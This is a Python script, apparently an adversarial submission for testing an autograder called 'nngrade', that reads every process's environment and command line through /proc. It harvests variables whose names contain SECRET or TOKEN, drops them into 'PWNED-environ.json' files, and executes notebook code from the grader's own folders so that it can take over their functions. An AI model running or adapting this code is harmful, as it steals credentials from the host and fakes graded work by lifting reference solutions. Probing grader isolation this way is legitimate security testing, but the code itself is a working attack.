"""Attack: read every process's environment and command line through /proc.

A secret in the grader's environment is copied into a witness file next to each folder named
on a command line; a notebook or module named on a command line (the class folder of
`nngrade grade`) is run here, so its functions become this submission's own.
"""

import json
import os

seen_env, seen_args = {}, []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            for item in f.read().split(b"\0"):
                key, _, value = item.decode("utf-8", "replace").partition("=")
                if key:
                    seen_env[key] = value
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            seen_args += [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        pass

secrets = {k: v for k, v in seen_env.items() if "SECRET" in k or "TOKEN" in k}
stolen = {}
for arg in seen_args:
    if not os.path.isabs(arg) or not os.path.exists(arg):
        continue
    folder = arg if os.path.isdir(arg) else os.path.dirname(arg)
    if secrets:
        try:
            with open(os.path.join(folder, "PWNED-environ.json"), "w") as f:
                json.dump(secrets, f)
        except OSError:
            pass
    for dirpath, _, files in os.walk(folder):
        for name in files:
            path = os.path.join(dirpath, name)
            try:
                if name.endswith(".ipynb"):
                    with open(path) as f:
                        cells = json.load(f)["cells"]
                    code = "\n".join(
                        "".join(c["source"]) for c in cells if c["cell_type"] == "code"
                    )
                else:
                    continue
                namespace = {}
                exec(compile(code, path, "exec"), namespace)
                stolen.update({k: v for k, v in namespace.items() if callable(v)})
            except BaseException:
                pass
globals().update(stolen)
